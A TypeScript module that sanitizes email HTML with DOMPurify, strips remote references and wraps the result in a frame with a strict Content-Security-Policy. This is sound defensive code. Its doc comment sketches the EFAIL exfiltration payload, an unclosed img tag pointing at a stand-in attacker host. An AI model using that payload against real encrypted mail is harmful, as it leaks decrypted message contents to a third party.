import DOMPurify from "dompurify";

export type MailHtmlOptions = {
  /** The agent chose to load the mail's remote content: https images (and CSS images) may load, nothing else. */
  remote: boolean;
  /** cid: references of the body, resolved to data: URLs of the article's own inline attachments. */
  inlineImages?: ReadonlyMap<string, string>;
};

/** The document for the mail's frame, and how many remote references were held back (0: no need to offer loading them). */
export type MailDocument = { srcdoc: string; blocked: number };

// Elements that fetch, submit, embed or reconfigure the document. The frame's policy would stop most of them anyway;
// removing them keeps a mail from looking like a form of ours.
const forbiddenTags = ["form", "input", "button", "select", "option", "optgroup", "textarea", "meta", "link", "base", "iframe", "frame",
  "frameset", "object", "embed", "applet", "audio", "video", "source", "track", "picture", "portal", "title"];
const imageAttributes = ["src", "background", "poster", "lowsrc", "dynsrc"];

/**
 * A mail's HTML made safe to show: DOMPurify removes script and active content, and every reference the browser would
 * fetch on its own is removed unless it is data: (or, once the agent asked, https:). Loading anything remote when a mail
 * is opened tells its sender that it was read, and in an encrypted mail it is EFAIL's direct exfiltration channel: an
 * attacker wraps the ciphertext in an unclosed <img src="https://attacker/? and the decrypted text becomes the URL.
 * The frame's own Content-Security-Policy enforces the same rule again, so a reference this pass misses is still blocked.
 */
export function mailDocument(html: string, options: MailHtmlOptions): MailDocument {
  const purify = DOMPurify(window);
  let blocked = 0;

  const keep = (url: string): string | null => {
    const trimmed = url.trim();
    if (trimmed === "") return null;
    if (/^cid:/i.test(trimmed)) return options.inlineImages?.get(trimmed.slice(4).replace(/^<|>$/g, "")) ?? null;
    if (/^data:image\//i.test(trimmed)) return trimmed;
    if (options.remote && /^https:\/\//i.test(trimmed)) return trimmed;
    blocked++;
    return null;
  };

  const css = (text: string): string =>
    text
      .replace(/@import\s+(?:url\([^)]*\)|(['"]).*?\1)[^;]*;?/gi, () => {
        blocked++;
        return "";
      })
      .replace(/url\(\s*(['"]?)(.*?)\1\s*\)/gi, (_match, _quote: string, url: string) => {
        const kept = keep(url);
        return kept === null ? "none" : `url("${kept.replace(/["\\\n]/g, "")}")`;
      });

  purify.addHook("uponSanitizeElement", (node, data) => {
    if (data.tagName === "style" && node.textContent) node.textContent = css(node.textContent);
  });
  purify.addHook("afterSanitizeAttributes", (node) => {
    for (const name of imageAttributes) {
      const value = node.getAttribute(name);
      if (value === null) continue;
      const kept = keep(value);
      if (kept === null) node.removeAttribute(name);
      else node.setAttribute(name, kept);
    }
    if (node.hasAttribute("srcset")) {
      if (!options.remote) blocked++;
      node.removeAttribute("srcset");
    }
    const style = node.getAttribute("style");
    if (style !== null) node.setAttribute("style", css(style));
    if (node.tagName === "A") {
      // Links open in a new tab of their own, never inside the frame (where a page could pose as part of ours).
      node.setAttribute("target", "_blank");
      node.setAttribute("rel", "noopener noreferrer");
    }
  });

  const root = purify.sanitize(html, {
    USE_PROFILES: { html: true },
    WHOLE_DOCUMENT: true,
    RETURN_DOM: true,
    FORBID_TAGS: forbiddenTags,
    FORBID_ATTR: ["ping"],
    ADD_ATTR: ["target"],
  });
  purify.removeAllHooks();

  const styles = Array.from(root.querySelectorAll("head style"), (style) => style.outerHTML).join("");
  const body = root.querySelector("body");
  const content = root.ownerDocument.createElement("div");
  content.className = "mail-root";
  const bodyStyle = body?.getAttribute("style");
  if (bodyStyle) content.setAttribute("style", bodyStyle);
  content.innerHTML = body?.innerHTML ?? "";

  return { srcdoc: frameDocument(styles + content.outerHTML, options.remote), blocked };
}

/** The frame's policy: nothing may load but data: images (and https images once asked), no script, no form, no base. */
export function framePolicy(remote: boolean): string {
  return `default-src 'none'; img-src data:${remote ? " https:" : ""}; style-src 'unsafe-inline'; font-src data:; ` +
    "script-src 'none'; base-uri 'none'; form-action 'none'";
}

function frameDocument(content: string, remote: boolean): string {
  return `<!doctype html><html><head><meta charset="utf-8">` +
    `<meta http-equiv="Content-Security-Policy" content="${framePolicy(remote)}">` +
    "<style>html{overflow:auto}body{margin:0;padding:12px 16px;color:#1c2330;background:#fff;" +
    'font:15px/1.45 system-ui,-apple-system,"Segoe UI",Roboto,"Noto Sans","DejaVu Sans",sans-serif;overflow-wrap:anywhere}' +
    "img{max-width:100%;height:auto}</style>" +
    `</head><body>${content}</body></html>`;
}
